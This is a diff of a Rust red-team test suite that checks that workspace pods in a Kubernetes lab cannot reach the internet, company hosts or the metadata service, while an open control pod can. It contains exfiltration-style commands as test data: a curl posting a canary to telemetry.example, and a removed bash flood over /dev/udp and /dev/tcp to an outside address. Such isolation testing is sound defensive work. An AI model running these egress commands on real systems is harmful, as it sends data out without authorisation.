@@ -1,22 +1,21 @@
 //! Red team, group A: from a workspace, nothing is reached. Each attack also runs in a pod that is no workspace, where it
 //! succeeds.
 
-use std::{collections::BTreeMap, time::Duration};
+use std::time::Duration;
 
 use anyhow::{Result, ensure};
 use ws_tests::{
     lab::Lab,
     namespace::with_namespace,
-    pod::{bare_pod, changed, give_ipv6},
-    probe::{INTERNET_V6, Target, canary, from_pod, from_workspace, open_pod},
+    pod::give_ipv6,
+    probe::{INTERNET, INTERNET_V6, Target, canary, from_pod, from_workspace, open_pod},
     project::Project,
-    wait::eventually,
+    wait::{PATIENCE, eventually},
     ws::Ws,
 };
 
 /// The pod that is no workspace.
 pub(crate) const OPEN: &str = "open";
-const INTERNET: &str = "20.0.113.66";
 const COMPANY: &str = "10.77.0.10";
 
 /// A workspace and a pod that is none both try; the one reaches nothing, the other everything.
@@ -27,7 +26,7 @@ pub(crate) async fn only_the_open_pod_reaches(
         let ws = Ws::new(lab, namespace)?;
         open_pod(lab, namespace, OPEN).await?;
         let targets = targets(lab, namespace).await?;
-        eventually(Duration::from_secs(20), "an open pod that reaches all of it", async || {
+        eventually(PATIENCE, "an open pod that reaches all of it", async || {
             let reached = from_pod(lab, namespace, OPEN, &targets).await?;
             ensure!(reached.len() == targets.len(), "of {targets:?} it reaches {reached:?} only");
             anyhow::Ok(Some(()))
@@ -56,7 +55,7 @@ async fn a01_the_seed_line_shows_the_tests_and_sends_nothing() -> Result<()> {
         assert!(!seed.stdout.contains("curl=0"), "the request failed: {seed}");
         assert!(seed.stdout.contains("telemetry.example denied"), "plain HTTP says why: {seed}");
         assert!(!lab.sunk()?.contains(&canary), "nothing arrived");
-        eventually(Duration::from_secs(5), "the refusal in the status", async || {
+        eventually(Duration::from_secs(10), "the refusal in the status", async || {
             let described = ws.run(&["describe", "seed"]).await?.ok()?;
             anyhow::Ok(described.stdout.contains("telemetry.example").then_some(()))
         })
@@ -65,7 +64,7 @@ async fn a01_the_seed_line_shows_the_tests_and_sends_nothing() -> Result<()> {
         open_pod(lab, namespace, OPEN).await?;
         let control = format!("curl -s --resolve telemetry.example:80:{INTERNET} http://telemetry.example/collect -d {canary}");
         lab.kubectl(&["-n", namespace, "exec", OPEN, "--", "bash", "-c", &control]).await?;
-        eventually(Duration::from_secs(5), "the control's request in the sink", async || {
+        eventually(PATIENCE, "the control's request in the sink", async || {
             anyhow::Ok(lab.sunk()?.contains(&canary).then_some(()))
         })
         .await
@@ -102,7 +101,7 @@ async fn a03_no_datagram_leaves() -> Result<()> {
         let (from_inside, from_outside) = (canary()?, canary()?);
         from_workspace(&ws, "mute", &datagrams(&from_inside)).await?;
         from_pod(lab, namespace, OPEN, &datagrams(&from_outside)).await?;
-        eventually(Duration::from_secs(5), "the control's datagrams in the sinks", async || {
+        eventually(PATIENCE, "the control's datagrams in the sinks", async || {
             let sunk = lab.sunk()?;
             anyhow::Ok(PORTS.iter().all(|port| sunk.contains(&payload(&from_outside, *port))).then_some(()))
         })
@@ -148,66 +147,4 @@ async fn a08_the_metadata_service_is_out_of_reach() -> Result<()> {
             .collect())
     })
     .await
-}
-
-#[tokio::test]
-#[ignore = "needs the lab"]
-async fn a12_pods_that_send_from_their_first_instruction_send_nothing() -> Result<()> {
-    const PODS: u32 = 20;
-    with_namespace(async |lab, namespace| {
-        let (ws, canary) = (Ws::new(lab, namespace)?, canary()?);
-        // The session that makes the class's policy be there.
-        ws.up("policy", Project::empty()?.path()).await?;
-        let flood = async |name: &str, class: Option<&str>, word: &str| {
-            let line = format!(
-                "end=$((SECONDS+3)); while [ $SECONDS -lt $end ]; do echo {word} > /dev/udp/{INTERNET}/53; \
-                 (echo {word} > /dev/tcp/{INTERNET}/80) & done 2>/dev/null; wait"
-            );
-            flooding_pod(lab, namespace, name, class, &line).await
-        };
-        for number in 0..PODS {
-            flood(&format!("flood-{number}"), Some("default"), &canary).await?;
-        }
-        let control = ws_tests::probe::canary()?;
-        flood("control", None, &control).await?;
-        eventually(Duration::from_secs(30), "the control's flood in the sink", async || {
-            anyhow::Ok(lab.sunk()?.contains(&control).then_some(()))
-        })
-        .await?;
-        eventually(Duration::from_secs(90), "the end of all floods", async || {
-            let phases = [
-                "-n",
-                namespace,
-                "get",
-                "pods",
-                "-l",
-                "flood=yes",
-                "-o",
-                "jsonpath={.items[*].status.phase}",
-            ];
-            let phases = lab.kubectl(&phases).await?.ok()?.stdout;
-            anyhow::Ok(phases.split(' ').all(|phase| phase == "Succeeded" || phase == "Failed").then_some(()))
-        })
-        .await?;
-        ensure!(!lab.sunk()?.contains(&canary), "a pod of the class got something through");
-        Ok(())
-    })
-    .await
-}
-
-/// A pod that is not the operator's but has the labels of a class, so that the class's policy selects it.
-async fn flooding_pod(lab: &Lab, namespace: &str, name: &str, class: Option<&str>, line: &str) -> Result<()> {
-    let image = lab.workspace_image().await?;
-    let mut labels = BTreeMap::from([("flood", "yes")]);
-    if let Some(class) = class {
-        labels.extend([(ws_api::MANAGED_BY_LABEL, ws_api::MANAGED_BY), (ws_api::CLASS_LABEL, class)]);
-    }
-    let pod = bare_pod(name, &image, &["timeout", "10", "bash", "-c", line]);
-    let changes = [
-        ("/metadata/labels", serde_json::to_value(labels)?),
-        ("/spec/restartPolicy", "Never".into()),
-        ("/spec/containers/0/resources", serde_json::json!({"limits": {"cpu": "50m"}})),
-    ];
-    let pod = changed(pod, &changes)?;
-    lab.kubectl_with(&["-n", namespace, "create", "-f", "-"], &pod.to_string()).await?.ok().map(drop)
 }
